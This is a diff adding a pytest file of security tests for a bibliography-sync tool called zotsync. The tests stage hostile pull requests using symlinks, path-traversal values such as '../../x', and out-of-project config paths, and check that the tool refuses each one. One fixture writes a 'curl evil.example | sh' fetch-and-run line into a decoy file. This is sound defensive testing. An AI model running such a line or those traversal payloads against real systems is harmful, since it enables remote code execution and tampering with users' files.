@@ -1,0 +1,190 @@
+"""The holes a pull request, a teammate or a hostile server could open, each written as the
+attack: a crafted file in a commit, a teammate's item over HTTP, a small hostile HTTP server
+on loopback, two processes at once.  Each asserts what the user sees (message, exit status),
+that nothing outside the list changed and that no key appears anywhere."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from conftest import REPO, snapshot
+
+LIST = "multimodal-sequence-learning"
+
+
+def git(cwd: Path, *args: str) -> str:
+    env = {
+        **os.environ,
+        "GIT_AUTHOR_NAME": "mallory",
+        "GIT_AUTHOR_EMAIL": "m@example.org",
+        "GIT_COMMITTER_NAME": "mallory",
+        "GIT_COMMITTER_EMAIL": "m@example.org",
+    }
+    done = subprocess.run(
+        ["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=True
+    )
+    return done.stdout
+
+
+def pull_request(tmp_path: Path, attack: dict[str, bytes | str]) -> Path:
+    """A clone of the project after merging a contributor's commit that adds ``attack``
+    (path -> bytes, or path -> symlink target when the path ends in '@')."""
+    origin = tmp_path / "origin"
+    origin.mkdir()
+    for name in ("zotsync.yaml", "mappings", "entries"):
+        source = REPO / name
+        if source.is_dir():
+            shutil.copytree(source, origin / name, ignore=shutil.ignore_patterns(".zotsync-cache"))
+        else:
+            shutil.copy(source, origin / name)
+    git(origin, "init", "-q")
+    git(origin, "add", "-A")
+    git(origin, "commit", "-qm", "the list")
+    for name, content in attack.items():
+        if name.endswith("@"):
+            target = origin / name[:-1]
+            if target.is_dir():
+                shutil.rmtree(target)
+            target.symlink_to(content)
+        else:
+            (origin / name).parent.mkdir(parents=True, exist_ok=True)
+            data = content if isinstance(content, bytes) else content.encode()
+            (origin / name).write_bytes(data)
+    git(origin, "add", "-A", "-f")
+    git(origin, "commit", "-qm", "a helpful contribution", "--allow-empty")
+    clone = tmp_path / "clone"
+    git(tmp_path, "clone", "-q", str(origin), str(clone))
+    return clone
+
+
+@pytest.fixture
+def victim(tmp_path: Path) -> Path:
+    """A file of the user's outside the project, that no zotsync command may touch."""
+    path = tmp_path / "home" / ".bashrc"
+    path.parent.mkdir()
+    path.write_text("export PATH=$HOME/bin:$PATH\n")
+    return path
+
+
+def in_clone(clone: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "zotsync", *args],
+        cwd=clone,
+        capture_output=True,
+        text=True,
+        env={**os.environ, "PYTHONWARNINGS": "ignore"},
+        timeout=120,
+    )
+
+
+# ----------------------------------------------------------------- 1. files in a pull request
+
+
+def test_a_committed_pending_save_cannot_touch_files_outside_the_list(
+    tmp_path: Path, victim: Path
+) -> None:
+    folder = f"entries/{LIST}"
+    hostile = {
+        "replace": [[str(victim.parent / "evil"), str(victim)], ["../../x", "../../y"]],
+        "delete": [str(victim), "../../../zotsync.yaml"],
+    }
+    text = json.dumps(hostile)
+    clone = pull_request(
+        tmp_path,
+        {
+            f"{folder}/.zotsync-cache/pending-save.json": text,
+            f"{folder}/.zotsync-pending.json": text,  # where older versions kept it
+        },
+    )
+    (victim.parent / "evil").write_text("curl evil.example | sh\n")
+    before = snapshot(clone)
+    cache_before = (clone / folder / ".zotsync-cache" / "pending-save.json").read_bytes()
+
+    checked = in_clone(clone, "check")  # what the example workflow runs on every PR
+    assert checked.returncode in (0, 1), checked.stderr
+    assert "Traceback" not in checked.stderr
+    assert (clone / folder / ".zotsync-cache" / "pending-save.json").read_bytes() == cache_before
+
+    for command in (["render"], ["ingest", "--force"], ["export", "--list", LIST, "-o", "x.bib"]):
+        done = in_clone(clone, *command)
+        assert done.returncode == 2, (command, done.stdout, done.stderr)
+        assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
+        assert "pending-save.json" in done.stderr and "not a pending save" in done.stderr
+    assert victim.read_text() == "export PATH=$HOME/bin:$PATH\n"
+    assert (victim.parent / "evil").exists()
+    assert snapshot(clone) == before
+
+
+def test_a_symlinked_section_folder_is_refused_not_written_through(
+    tmp_path: Path, victim: Path
+) -> None:
+    folder = f"entries/{LIST}"
+    clone = pull_request(tmp_path, {f"{folder}/sections@": str(victim.parent)})
+    before = sorted(p.name for p in victim.parent.iterdir())
+    done = in_clone(clone, "ingest", "--force")
+    assert done.returncode == 2, done.stderr
+    assert "outside" in done.stderr and "Traceback" not in done.stderr
+    assert sorted(p.name for p in victim.parent.iterdir()) == before
+    assert victim.read_text() == "export PATH=$HOME/bin:$PATH\n"
+
+
+def test_a_symlinked_state_journal_is_not_appended_to(tmp_path: Path, victim: Path) -> None:
+    from zotsync.errors import InputError
+    from zotsync.library import StateFile
+    from zotsync.state import SyncState
+
+    clone = pull_request(tmp_path, {f"entries/{LIST}/sync-state.json.journal@": str(victim)})
+    store = StateFile(clone / "entries" / LIST / "sync-state.json", {"group": 1})
+    with pytest.raises(InputError, match="symbolic link"):
+        store.journal(SyncState(library={"group": 1}), set(), set())
+    assert victim.read_text() == "export PATH=$HOME/bin:$PATH\n"
+
+
+def test_config_paths_outside_the_project_are_refused(tmp_path: Path, victim: Path) -> None:
+    config = (REPO / "zotsync.yaml").read_text()
+    config = config.replace("markdown: ", f"markdown: ../../{victim.parent.name}/.bashrc #", 1)
+    clone = pull_request(tmp_path, {"zotsync.yaml": config})
+    done = in_clone(clone, "render")
+    assert done.returncode == 2
+    assert "zotsync.yaml:" in done.stderr and "must be a path inside" in done.stderr
+    assert victim.read_text() == "export PATH=$HOME/bin:$PATH\n"
+
+
+def test_check_writes_nothing_at_all(tmp_path: Path) -> None:
+    clone = pull_request(tmp_path, {})
+    before = {p: p.read_bytes() for p in clone.rglob("*") if p.is_file()}
+    done = in_clone(clone, "check")
+    assert done.returncode in (0, 1)
+    after = {p: p.read_bytes() for p in clone.rglob("*") if p.is_file()}
+    assert after == before  # the cache included
+
+
+def test_written_files_keep_their_mode(tmp_path: Path) -> None:
+    clone = pull_request(tmp_path, {})
+    readme = clone / "entries" / LIST / "README.md"
+    title = "A Large-Scale Chinese Multimodal NER Dataset with Speech Clues"
+    readme.write_text(readme.read_text().replace(title, title.upper(), 1))
+    readme.chmod(0o644)
+    section = clone / "entries" / LIST / "sections" / "datasets.yaml"
+    section.chmod(0o640)
+    before = section.read_bytes()
+    os.umask(old := os.umask(0o077))  # a strict umask must not make shared files private
+    try:
+        done = in_clone(clone, "ingest", "--list", LIST)  # the README's edit reaches the YAML
+        assert done.returncode == 0, done.stderr
+        assert section.read_bytes() != before and title.upper() in section.read_text()
+        section.write_text(section.read_text().replace(title.upper(), title, 1))
+        done = in_clone(clone, "render", "--list", LIST)
+        assert done.returncode == 0, done.stderr
+        assert title in readme.read_text()
+    finally:
+        os.umask(old)
+    assert readme.stat().st_mode & 0o777 == 0o644
+    assert section.stat().st_mode & 0o777 == 0o640
